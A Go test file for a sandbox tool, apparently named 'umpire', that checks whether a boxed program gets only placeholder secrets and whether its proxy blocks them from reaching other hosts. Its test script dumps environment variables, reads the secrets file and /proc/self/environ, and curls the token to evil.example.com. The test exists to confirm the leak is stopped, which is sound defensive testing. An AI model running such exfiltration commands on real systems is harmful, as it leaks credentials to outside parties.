package main

import (
	"context"
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// A program in a box trusts the proxy's CA and has placeholders, whatever it was given of
// the secret itself.
func TestRunSecrets(t *testing.T) {
	if !free(t) {
		return
	}
	bin, dir := program(t), newProject(t)
	home := filepath.Dir(dir)
	const value, given = "the-secret-of-this-test", "a-key-that-the-box-has"
	env := append(os.Environ(), "HOME="+home, "API_TOKEN="+value, "GIVEN_KEY="+given)
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
	defer cancel()
	umpire := func(more []string, args ...string) string {
		t.Helper()
		cmd := exec.CommandContext(ctx, bin, args...)
		cmd.Dir, cmd.Env = dir, append(env, more...)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("umpire %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	umpire(nil, "ca", "create")
	file := filepath.Join(home, ".config", "umpire", "secrets")
	if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte("version: 1\nsecrets:\n  - {name: api, env: API_TOKEN, hosts: [api.example.com], fromEnv: API_TOKEN}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	at := servedAt(ctx, t, bin, dir, env)
	out := umpire([]string{"UMPIRE_SERVER=http://" + at["all"]}, "run", "--proxy", at["proxy"], "--env", "API_TOKEN", "--env", "GIVEN_KEY", "--", "sh", "-c",
		`echo "token $API_TOKEN"; [ "$GIVEN_KEY" = `+given+` ] && touch changed; grep -c BEGIN "$SSL_CERT_FILE" >/dev/null && echo trusted; env; cat `+file+`; tr '\0' '\n' </proc/self/environ; curl -sS -H "Authorization: $API_TOKEN" http://evil.example.com/`)
	for _, want := range []string{"token umpire:api:", "trusted\n", "NODE_EXTRA_CA_CERTS=", "the placeholder of the secret api is not for evil.example.com"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in\n%s", want, out)
		}
	}
	err := filepath.WalkDir(filepath.Join(home, ".local", "state", "umpire"), func(path string, d os.DirEntry, err error) error {
		if errors.Is(err, fs.ErrNotExist) { // the gateway runs on, and removes what it is done with
			return nil
		}
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		b, err := os.ReadFile(path)
		if errors.Is(err, fs.ErrNotExist) {
			return nil
		}
		if strings.Contains(string(b), value) || filepath.Base(path) == "run.json" && strings.Contains(strings.ReplaceAll(string(b), "= "+given, ""), given) {
			t.Errorf("%s has the secret", path)
		}
		return err
	})
	if runs, bad := filepath.Glob(filepath.Join(home, ".local", "state", "umpire", "runs", "*", "run.json")); bad != nil || len(runs) != 1 {
		t.Errorf("what is kept of the run: %v, %v", runs, bad)
	}
	if err != nil || strings.Contains(out, value) {
		t.Errorf("the box has the secret, or %v:\n%s", err, out)
	}
}
